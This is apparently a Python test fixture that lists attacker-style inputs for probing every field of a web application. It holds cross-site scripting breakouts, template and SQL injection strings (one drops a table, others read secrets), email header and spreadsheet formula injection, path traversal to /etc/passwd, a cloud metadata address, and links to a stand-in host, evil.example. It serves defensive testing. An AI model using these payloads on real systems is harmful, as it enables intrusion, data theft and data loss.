"""What people with bad intentions type: payloads by what they are after, for every field.

Whatever a payload of markup brings onto a page carries `data-hostile`, calls `alert`, or asks a
host that is not ours: one of the three shows that it was taken for more than words.
"""

MARK = "data-hostile"  # no element of a page carries it, unless a payload became one
ELSEWHERE = "//evil.example"

_RUN = "alert(1)"

# Closing what a text may stand in: an attribute, a tag, a comment, a raw-text element.
_WAYS_OUT = (
    "", '">', "'>", "-->", "</title>", "</textarea>", "</script>", "</style>", "</option></select>",
    "</noscript>", "</template>", "]]>", '"/>', "`>", "</svg>",
)  # fmt: skip
_ELEMENTS = (
    f"<script {MARK}>{_RUN}</script>",
    f"<img {MARK} src=x onerror={_RUN}>",
    f"<svg {MARK} onload={_RUN}>",
    f"<svg {MARK}><script>{_RUN}</script></svg>",
    f"<iframe {MARK} srcdoc='<script>{_RUN}</script>'></iframe>",
    f"<details {MARK} open ontoggle={_RUN}>",
    f"<input {MARK} autofocus onfocus={_RUN}>",
    f"<b {MARK}>bold</b>",
)
BREAKING_OUT = [way + element for way in _WAYS_OUT for element in _ELEMENTS]

_EVENTS = (
    "onload", "onerror", "onclick", "onfocus", "onblur", "onmouseover", "onpointerenter",
    "onanimationstart", "ontransitionend", "oncut", "onpaste", "onscroll", "onwheel", "onresize",
    "onhashchange", "onpageshow", "onbeforetoggle", "onsearch",
    "oncontentvisibilityautostatechange",
)  # fmt: skip
IN_ATTRIBUTES = [
    form.format(event=event, run=_RUN, mark=MARK)
    for event in _EVENTS
    for form in ('" {mark} {event}="{run}" x="', "' {mark} {event}='{run}' x='")
]

ELEMENTS = [
    f"<body {MARK} onload={_RUN}>",
    f"<video {MARK}><source onerror={_RUN}></video>",
    f"<audio {MARK} src=x onerror={_RUN}>",
    f"<object {MARK} data='data:text/html,<script>{_RUN}</script>'></object>",
    f"<embed {MARK} src='javascript:{_RUN}'>",
    f"<form {MARK} action='javascript:{_RUN}'><button>Go</button></form>",
    f"<button {MARK} formaction=javascript:{_RUN}>Go</button>",
    f"<base {MARK} href='https:{ELSEWHERE}/'>",
    f"<link {MARK} rel=stylesheet href='https:{ELSEWHERE}/x.css'>",
    f"<link {MARK} rel=prefetch href='https:{ELSEWHERE}/x'>",
    f"<meta {MARK} http-equiv=refresh content='0;url=https:{ELSEWHERE}/'>",
    f"<style {MARK}>*{{background:url(https:{ELSEWHERE}/x)}}</style>",
    f"<p {MARK} style='position:fixed;inset:0;background:url(https:{ELSEWHERE}/y)'>over</p>",
    f"<math {MARK}><mtext><img src=x onerror={_RUN}></mtext></math>",
    f"<math><annotation-xml encoding='text/html'><img {MARK} src=x onerror={_RUN}>",
    f"<svg><animate {MARK} onbegin={_RUN} attributeName=x dur=1s></svg>",
    f"<svg><a xlink:href='javascript:{_RUN}' {MARK}><text y=9>x</text></a></svg>",
    f"<svg><use {MARK} href='data:image/svg+xml,<svg id=x onload={_RUN}>#x'></svg>",
    f"<svg><foreignObject><img {MARK} src=x onerror={_RUN}></foreignObject></svg>",
    f"<marquee {MARK} onstart={_RUN}>x</marquee>",
    f"<dialog {MARK} open onclose={_RUN}>x</dialog>",
    f"<template {MARK}><script>{_RUN}</script></template>",
    f"<noscript><p {MARK} title='</noscript><img src=x onerror={_RUN}>'></noscript>",
    f"<textarea {MARK} autofocus onfocus={_RUN}></textarea>",
    f"<select {MARK} autofocus onfocus={_RUN}></select>",
    f"<keygen {MARK} autofocus onfocus={_RUN}>",
    f"<isindex {MARK} type=image src=1 onerror={_RUN}>",
    f"<a {MARK} href='javascript:{_RUN}'>press</a>",
    f"<a {MARK} href='data:text/html,<script>{_RUN}</script>'>press</a>",
    f"<area {MARK} href=javascript:{_RUN}>",
    f"<table {MARK} background='https:{ELSEWHERE}/t'><td>x</table>",
    f"<frameset {MARK} onload={_RUN}>",
    f"<project-map {MARK} data-points='https:{ELSEWHERE}/p'></project-map>",
    f"<place-picker {MARK}></place-picker>",
    f"<p {MARK} hx-get='https:{ELSEWHERE}/' hx-trigger=load>x</p>",
    f"<p {MARK} hx-on:htmx:load='{_RUN}'>x</p>",
    f"<p {MARK} data-hx-get='/me/' data-hx-trigger='load'>x</p>",
    f"<p {MARK} hx-vals='js:{{x:{_RUN}}}' hx-get='/' hx-trigger=load>x</p>",
    f"<!--[if gte IE 4]><script {MARK}>{_RUN}</script><![endif]-->",
    f"<!--><img {MARK} src=x onerror={_RUN}>-->",
    f"<![CDATA[<img {MARK} src=x onerror={_RUN}>]]>",
    f"<?xml-stylesheet href='javascript:{_RUN}'?><b {MARK}>x</b>",
]
SPELLINGS = [
    f"<ScRiPt {MARK}>{_RUN}</sCrIpT>",
    f"<script\u00a0{MARK}>{_RUN}</script>",
    f"<script/{MARK}>{_RUN}</script>",
    f"<script {MARK} src=https:{ELSEWHERE}/x.js></script>",
    f"<script {MARK} type=module>{_RUN}</script>",
    f"<script {MARK}>{_RUN}//",
    f"<<script {MARK}>{_RUN}//<</script>",
    f"<scr<script>ipt {MARK}>{_RUN}</scr</script>ipt>",
    f"<img {MARK} src=x onerror\u2003={_RUN}>",
    f"<img/{MARK}/src=x/onerror={_RUN}//",
    f"<img {MARK} src=x onerror=&#97;&#108;ert(1)>",
    f"<img {MARK} src=x onerror=\\u0061lert(1)>",
    f"<img {MARK} src=x onerror=alert`1`>",
    f"<IMG {MARK} SRC=x ONERROR={_RUN}",
    f"＜script {MARK}＞{_RUN}＜/script＞",
    f"‹script {MARK}›{_RUN}‹/script›",
    f"&lt;script {MARK}&gt;{_RUN}&lt;/script&gt;",
    f"&#60;script {MARK}&#62;{_RUN}&#60;/script&#62;",
    f"&#x3c;img {MARK} src=x onerror={_RUN}&#x3e;",
    f"&amp;lt;script {MARK}&amp;gt;",
    f"%3Cscript%20{MARK}%3E{_RUN}%3C/script%3E",
    f"%253Cscript%2520{MARK}%253E{_RUN}",
    f"\\u003cscript {MARK}\\u003e{_RUN}\\u003c/script\\u003e",
    f"\\x3cscript {MARK}\\x3e{_RUN}\\x3c/script\\x3e",
    f"+ADw-script {MARK}+AD4-{_RUN}+ADw-/script+AD4-",
    f"<b {MARK}\u202e>txet</b>",
    f"<s\u0327cript {MARK}>{_RUN}</s\u0327cript>",
    f"<ſcript {MARK}>{_RUN}</ſcript>",
    f"<ımg {MARK} src=x onerror={_RUN}>",
    f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={_RUN} )//</stYle/</titLe/--!>"
    f"\\x3csVg/<sVg/{MARK}/oNloAd={_RUN}//>",
]

_SCHEMES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", " javascript:alert(1)",
    "javascript&colon;alert(1)", "javascript&#58;alert(1)", "javascript%3Aalert(1)",
    "javascript://example.org/%0aalert(1)", "vbscript:msgbox(1)", "data:text/html,<script>alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "blob:https://evil.example/1",
    "file:///etc/passwd", "view-source:javascript:alert(1)", "jar:https://evil.example!/",
    "//evil.example/x", "\\\\evil.example\\x", "/\\evil.example", "https:evil.example",
)  # fmt: skip
MARKDOWN = [
    *(f"[press]({scheme})" for scheme in _SCHEMES),
    *(f"<{scheme}>" for scheme in _SCHEMES[:6]),
    f"![x](https:{ELSEWHERE}/pixel.png)",
    f'![x](x "onerror={_RUN}")',
    f'[x](https://example.org "{MARK} onmouseover={_RUN}")',
    f'[x](https://example.org"{MARK}onmouseover="{_RUN})',
    "[x]: javascript:alert(1)\n[x]",
    f"[<img {MARK} src=x onerror={_RUN}>](https://example.org)",
    f"`<img {MARK} src=x onerror={_RUN}>`",
    f"```\n</code></pre><script {MARK}>{_RUN}</script>\n```",
    f"    <script {MARK}>{_RUN}</script>",
    f"> <script {MARK}>{_RUN}</script>",
    f"# <img {MARK} src=x onerror={_RUN}>",
    f"***<b {MARK}>***",
    f'<https://example.org/"{MARK}onclick="{_RUN}>',
    f"[x](javascript\u200b:{_RUN})",
    "[" * 300 + "x" + "](a)" * 300,
    "*_" * 400,
    "> " * 300 + "deep",
]
ADDRESSES = [
    f'https://example.org/"><img {MARK} src=x onerror={_RUN}>',
    f"https://example.org/' {MARK} onclick='{_RUN}",
    f"https://example.org/?next=<script {MARK}>{_RUN}</script>",
    "https://example.org/%0d%0aSet-Cookie:%20x=1",
    "https://user:secret@evil.example/",
    "https://xn--80ak6aa92e.com/",
    "https://аpple.com/",
    "https://evil.example\\@example.org/",
    "https://[::1]/",
    "https://169.254.169.254/latest/meta-data/",
    "https://example.org/#<svg onload=alert(1)>",
]
TEMPLATES = [
    "{{ 7|add:7 }}", "{{ settings.SECRET_KEY }}", "{{ request.user.password }}", "{% now 'Y' %}",
    "{% load static %}{% static 'x' %}", "{% include 'base.html' %}", "{% debug %}", "{# gone #}",
    "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{constructor.constructor('alert(1)')()}}",
    "%(name)s", "%s%s%s%s%n", "{0}", "{name}", "{site.__class__}", "{0.__class__.__mro__}",
    "%(secret)s", "{peer.password}", "{{ peer.email }}", "%%", "{", "{}", "{{", "{%", "%", "%d",
    "$name", "${name}", "\\N{BULLET}", "@{x}", "[[${7*7}]]", "*{7*7}",
]  # fmt: skip
SQL = [
    "' OR 1=1 --", "'; DROP TABLE peers_peer; --", "\" OR \"\"=\"", "1; SELECT pg_sleep(3)",
    "') UNION SELECT password FROM peers_peer --", "$$ || pg_sleep(3) || $$", "\\'; --", "%' --",
    "*/ SELECT 1 /*", "1 AND 1=CAST((SELECT version()) AS int)", "a:*", "a & | !", "a <-> b", "(((",
    "'a' & 'b':*C", "E'\\x27'", "U&'\\0027'", "NULL", "-- ", "/*", "password", "lead__password",
    "-password", "?", "random()", "id DESC; --", "title,(SELECT 1)", "pk__in", "__class__", "_%_",
]  # fmt: skip
HEADERS = [
    "x Bcc: victim@example.org", "x%0d%0aBcc: victim@example.org", "x\\r\\nBcc: v@example.org",
    "=?utf-8?q?=0ABcc:_v=40example.org?=", "\"<victim@example.org>\" <x", "a, b@example.org",
    "Subject: x", "undisclosed-recipients:;", "BEGIN:VCALENDAR", "END:VEVENT", "x;CN=\"y\"",
    "ATTENDEE:mailto:v@example.org", "x\\nATTENDEE:mailto:v@example.org", "\\,\\;\\\\",
    "--boundary",
    "Content-Type: text/html", ".", "..", "MIME-Version: 1.0", "X-Evil: 1",
]  # fmt: skip
FORMULAS = [
    "=1+1", "=HYPERLINK(\"https://evil.example\",\"x\")", "+1+1", "-1+1", "@SUM(1)",
    "=cmd|' /C calc'!A0",
    "\u200b=1+1", " =1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "|calc", "%0A=1+1",
    "\"=1+1", "';=1+1",
]  # fmt: skip
PATHS = [
    "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "%2e%2e%2f",
    "....//....//",
    "file.php", "x.svg", "x.html", "con", "nul", ".htaccess", "~root", "a/b", "C:\\x", "x.jpg.exe",
]  # fmt: skip
UNICODE = [
    "\u202egnp.exe", "abc\u2066\u202edef\u2069", "\u200f\u200e", "a\u0300" * 60,
    "Z̷̡̢̛͇͎̝a̸̢̨l̶͉̓g̸̨̈́o̵̧̎", "💥" * 40,
    "👩‍👩‍👧‍👦" * 12, "🏴󠁧󠁢󠁳󠁣󠁴󠁿", "ﷺ", "𒐫", "⣿" * 60, "Ω≈ç√∫˜µ≤", "田中さん", "سمَـَّوُوُحخ ̷̴̐خ ̷̴̐",
    "ÅÅ", "ﬀﬁ", "İıſ", "ß" * 60,
    "\u2028x\u2029", "\u00a0\u2003x", "a\u00adb", "x\u200dy", "\ufeffx", "\ufffd", "\U000e0041x",
    "ＡＢＣ", "１２３",
    "\u115f\u3164x", "null", "undefined", "None", "true", "NaN", "-1", "0", "9" * 90, "1e400",
    "0x10", "x" * 100,
    "W" * 100, "i" * 100, "a b " * 24, "[object Object]", "{\"a\":1}", "<>", "&", "&amp;", "\"",
    "'", "`", "\\",
]  # fmt: skip

PAYLOADS: list[str] = list(
    dict.fromkeys(
        [
            *(*BREAKING_OUT, *IN_ATTRIBUTES, *ELEMENTS, *SPELLINGS, *MARKDOWN, *ADDRESSES),
            *(*TEMPLATES, *SQL, *HEADERS, *FORMULAS, *PATHS, *UNICODE),
        ]
    )
)

# What is not even text, or not a number, a day or a page: for parameters and bodies.
BROKEN = [
    b"", b" ", b"\x00", b"a\x00b", b"\xed\xa0\x80", b"\xff\xfe", b"\xc0\xae", b"\xf4\x90\x80\x80",
    b"a\r\nSet-Cookie: x=1", b"\x0b\x1c\x85", b"\xc2\x85", b"\x1b[31m", b"\x7f", b"NaN", b"nan,nan",
    b"Infinity", b"-inf,inf", b"1e400", b"1e308,1e308", b"-1", b"1.5", b"1_000", b"0x10",
    b"9" * 5000,
    b"0001-01-01", b"9999-12-31", b"10000-01-01", b"2026-02-30", b"24:60", b"T", b"2026-W01", b"--",
    b"[" * 5_000, b"{" * 5_000, b"x" * 60_000, b"a " * 20_000, b"[a](" * 5_000, b"(" * 5_000,
    b"%", b"%zz", b"%25", b"+", b",", b",,,,", b";", b"&&&", b"=", b"\\", b"\"", b"'", b"*", b":*",
    "١٢٣".encode(), "２".encode(), "½".encode(), "²".encode(), "\U0001f4a5".encode() * 60,
]  # fmt: skip
